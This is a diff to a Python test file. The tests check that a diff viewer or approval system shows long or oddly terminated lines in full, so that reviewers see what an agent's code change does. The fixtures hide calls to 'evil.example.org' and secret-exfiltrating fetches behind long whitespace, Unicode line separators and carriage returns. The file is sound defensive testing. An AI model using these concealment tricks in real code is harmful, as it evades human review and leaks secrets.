@@ -129,15 +129,51 @@ def asked(diff: str = "", **more: object) -> str:
     return plain(lines)
 
 
-async def test_what_a_long_line_of_a_diff_hides_is_said() -> None:
+async def test_a_long_line_of_a_diff_is_shown_whole_and_no_part_of_it_as_a_line_of_its_own() -> None:
     shown = asked(f"--- a\n+++ b\n@@ -1 +1 @@\n+x = 1{' ' * 400}; self.fetch('http://evil.example.org')")
-    assert "characters" in shown.rsplit("x = 1", 1)[1]
+    (row,) = [row for row in shown.splitlines() if "evil.example.org" in row]
+    assert row.startswith("  ↪ ")
+    assert "  │ +x = 1" in shown.splitlines()
 
 
-async def test_what_a_long_diff_hides_is_said() -> None:
+async def test_a_line_of_code_that_needs_something_is_shown_whole() -> None:
+    code = f'url = "http://api.example.org/"{" " * 260}; self.fetch(url + self.secret("KEY"))'
+    shown = asked(lines=((4, code),)).splitlines()
+    assert [row[:4] for row in shown if "KEY" in row] == ["  ↪ "]
+
+
+async def test_a_long_diff_is_shown_whole() -> None:
     text = "".join(f"# {number}\n" for number in range(9_000))
-    shown = differences({"a": ""}, [Source.of("a", f"{text}evil()\n")])
-    assert "evil" in shown or "left out" in shown.splitlines()[-1]
+    shown = differences({"a": text}, [Source.of("a", f"{text.replace('#', '##')}evil()\n")])
+    assert "## 4500" in asked(shown)
+    assert "evil" in shown
+
+
+async def test_what_python_takes_for_one_line_is_one_line_of_a_diff() -> None:
+    old = "def f(self):\n    return 1\n"
+    new = "def f(self):\n    x = 1  # note\u2028    return 1\n    return self.secret('KEY')\n"
+    shown = differences({"a": old}, [Source.of("a", new)])
+    assert "+    x = 1  # note\u2028    return 1" in shown.split("\n")
+    assert "-    return 1" in shown.split("\n")
+
+
+async def test_a_return_at_the_end_of_a_line_ends_it_as_it_does_for_python() -> None:
+    shown = differences({"a": "x = 1\n"}, [Source.of("a", "x = 1  # note\r    evil()\n")])
+    assert "+    evil()" in shown.split("\n")
+
+
+async def test_a_difference_that_nobody_can_read_is_granted_by_nobody(here: Room) -> None:
+    who = human("yes")
+    here.shop.granting.approver = who
+    assert (await here.shop.create("weather", WEATHER, "sky", author=AGENT))["admitted"]
+    padding = "".join(f"# {'x' * 4_000} {number}\n" for number in range(60))
+    await here.save(f"{WEATHER}\n{padding}", here.root / "functions" / "sky.py")
+    await here.shop.call("weather", {"city": "Oslo"})
+    await here.save(f"{WEATHER}\n{padding.replace('x', 'y')}", here.root / "functions" / "sky.py")
+    found = await here.shop.call("weather", {"city": "Oslo"})
+    assert (len(who.asked), "characters long" in str(found)) == (2, True)
+    with pytest.raises(WorkspaceError, match="characters long"):
+        await here.shop.grants.question("weather")
 
 
 async def test_the_end_of_a_long_path_is_seen(tmp_path: Path) -> None:
